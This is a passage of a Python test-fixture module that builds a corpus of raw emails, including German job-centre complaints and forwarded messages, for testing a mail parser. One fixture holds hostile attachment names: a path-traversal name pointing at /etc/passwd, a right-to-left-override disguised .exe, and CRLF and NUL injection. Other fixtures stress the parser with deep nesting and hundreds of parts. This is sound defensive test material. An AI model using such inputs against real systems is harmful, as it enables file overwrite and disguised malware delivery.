        "Von: \tMaria Beispiel <Maria@Example.net>\n"
        "An: \tteam711@jobcenter-pankow.example\n"
        "\n"
        "Ich beschwere mich über die Sachbearbeitung.\n"
    )


def outlook_forward_by_hand() -> bytes:
    return _crlf(
        "From: Team 712 <team712@jobcenter-pankow.example>\n"
        "Subject: WG: Beschwerde\n"
        "Message-ID: <outlook-by-hand@jobcenter-pankow.example>\n"
        "Content-Type: text/plain; charset=utf-8\n"
        "\n"
        "Bitte übernehmen.\n"
        "\n"
        "________________________________\n"
        "Von: Beispiel, Maria [mailto:maria@example.net]\n"
        "Gesendet: Montag, 2. März 2026 09:15\n"
        "An: Team 712\n"
        "Betreff: Beschwerde\n"
        "\n"
        "Ich beschwere mich.\n"
    )


def gmail_forward_by_hand() -> bytes:
    return _crlf(
        "From: Team 712 <team712@jobcenter-pankow.example>\n"
        "Subject: Fwd: complaint\n"
        "Message-ID: <gmail-by-hand@jobcenter-pankow.example>\n"
        "Content-Type: text/plain; charset=utf-8\n"
        "\n"
        "---------- Forwarded message ---------\n"
        "From: Ahmad Nasser <ahmad.nasser@example.com>\n"
        "Date: Mon, Mar 2, 2026 at 9:15 AM\n"
        "Subject: complaint\n"
        "To: <team712@jobcenter-pankow.example>\n"
        "\n"
        "I want to complain.\n"
    )


def hostile_filenames() -> bytes:
    long_name = "Kontoauszug-" + "x" * 300 + ".pdf"
    return _crlf(
        "From: Datei <datei@example.org>\n"
        "Subject: Dateinamen\n"
        "Message-ID: <filenames@example.org>\n"
        "MIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="f"\n'
        "\n"
        "--f\n"
        "Content-Type: text/plain\n"
        "\n"
        "Dateien.\n"
        "--f\n"
        "Content-Type: text/plain\n"
        'Content-Disposition: attachment; filename="../../etc/passwd"\n'
        "\n"
        "root:x:0:0\n"
        "--f\n"
        "Content-Type: application/octet-stream\n"
        "Content-Disposition: attachment; filename*=utf-8''rechnung%E2%80%AEfdp.exe\n"
        "\n"
        "MZ\n"
        "--f\n"
        "Content-Type: application/pdf\n"
        "Content-Disposition: attachment; filename*=utf-8''Bescheid%20M%C3%BCller.pdf\n"
        "\n"
        "%PDF-1.4\n"
        "--f\n"
        "Content-Type: application/pdf\n"
        'Content-Disposition: attachment; filename="=?utf-8?q?Antrag_f=C3=BCr_WBA.pdf?="\n'
        "\n"
        "%PDF-1.4\n"
        "--f\n"
        "Content-Type: image/png\n"
        "Content-Disposition: inline\n"
        "Content-Transfer-Encoding: base64\n"
        "\n" + _b64_lines(tiny_png()).decode() + "--f\n"
        "Content-Type: application/pdf\n"
        f'Content-Disposition: attachment; filename="{long_name}"\n'
        "\n"
        "%PDF-1.4\n"
        "--f\n"
        "Content-Type: text/plain\n"
        "Content-Disposition: attachment; filename*=utf-8''zeile%0D%0Aumbruch%00.txt\n"
        "\n"
        "x\n"
        "--f\n"
        "Content-Type: application/pdf\n"
        'Content-Disposition: attachment; filename="C:\\Users\\maria\\Desktop\\Kontoauszug.pdf"\n'
        "\n"
        "%PDF-1.4\n"
        "--f\n"
        "Content-Disposition: attachment\n"
        "\n"
        "ohne Typ\n"
        "--f--\n"
    )


def deep_nesting(levels: int = 30) -> bytes:
    head = "".join(
        f'--d{i}\nContent-Type: multipart/mixed; boundary="d{i + 1}"\n\n' for i in range(levels)
    )
    tail = "".join(f"--d{i}--\n" for i in reversed(range(levels + 1)))
    return _crlf(
        "From: tief@example.org\n"
        "Subject: Tief verschachtelt\n"
        "MIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="d0"\n'
        "\n" + head + f"--d{levels}\nContent-Type: text/plain\n\nganz unten\n" + tail
    )


def many_parts(count: int = 600) -> bytes:
    parts = "".join(
        f"--p\nContent-Type: application/octet-stream\n"
        f'Content-Disposition: attachment; filename="teil-{i}.bin"\n\n{i}\n'
        for i in range(count)
    )
    return _crlf(
        "From: viele@example.org\n"
        "Subject: Viele Teile\n"
        "MIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="p"\n'
        "\n--p\nContent-Type: text/plain\n\nText zuerst.\n" + parts + "--p--\n"
    )


def leading_blank_lines() -> bytes:
    """Saved by a program that puts an empty line and an mbox "From " line first."""
    return b"\r\n" + _crlf(
        "From maria@example.net Mon Mar  2 09:15:00 2026\n"
        "From: Maria Beispiel <maria@example.net>\n"
        "Subject: Mit Vorspann\n"
        "\n"
        "Text.\n"
    )


def bad_headers() -> bytes:
    return _crlf(
        "From: kein gültiger Absender\n"
        "Subject: Kaputte Kopfzeilen\n"
        "Date: gestern Abend\n"
        "Message-ID: kaputt mit leerzeichen\n"
        f"References: {'<' + 'r' * 300 + '@x>'} <ok-ref@example.org>\n"
        "\n"
        "Text.\n"
    )


def headerless_text() -> bytes:
    return "Dies ist keine E-Mail, nur ein Text mit Umlauten: äöü.\n".encode()


_BUILDERS = {
    "plain_utf8": plain_utf8,
    "html_hostile": html_hostile,
    "html_only": html_only,
    "html_meta_charset": html_meta_charset,
    "broken_base64": broken_base64,
    "broken_qp": broken_qp,
    "nested": nested,
    "header_8bit_utf8": header_8bit_utf8,
    "header_8bit_latin1": header_8bit_latin1,
    "rfc2047_mixed": rfc2047_mixed,
    "ascii_declared_cp1252": ascii_declared_cp1252,
    "latin1_declared_cp1252": latin1_declared_cp1252,
    "utf8_invalid": utf8_invalid,
    "unknown_charset": unknown_charset,
    "forwarded_rfc822": forwarded_rfc822,
    "forwarded_rfc822_base64": forwarded_rfc822_base64,
    "forwarded_msg": forwarded_msg,
    "outlook_msg": outlook_msg,
    "tnef": tnef,
    "tnef_only": tnef_only,
    "tnef_broken": tnef_broken,
    "reply": reply,
    "auto_reply": auto_reply,
    "no_body": no_body,
    "many_recipients": many_recipients,
    "headers_only": headers_only,
    "header_injection": header_injection,
    "garbage": garbage,
    "empty": empty,
    "forwarded_by_hand": forwarded_by_hand,
    "outlook_forward_by_hand": outlook_forward_by_hand,
    "gmail_forward_by_hand": gmail_forward_by_hand,
    "hostile_filenames": hostile_filenames,
    "deep_nesting": deep_nesting,
    "many_parts": many_parts,
    "leading_blank_lines": leading_blank_lines,
    "bad_headers": bad_headers,
    "headerless_text": headerless_text,
}

#: Corpus items that are no mail: parse() raises Unreadable.
UNREADABLE = frozenset({"garbage", "empty"})


def corpus(*, big: bool = False) -> dict[str, bytes]:
    """Named raw mails; with big=True also "big_attachment" (a 30 MiB attachment)."""
    mails = {name: build() for name, build in _BUILDERS.items()}
    if big:
        mails["big_attachment"] = big_attachment_mail()
    return mails
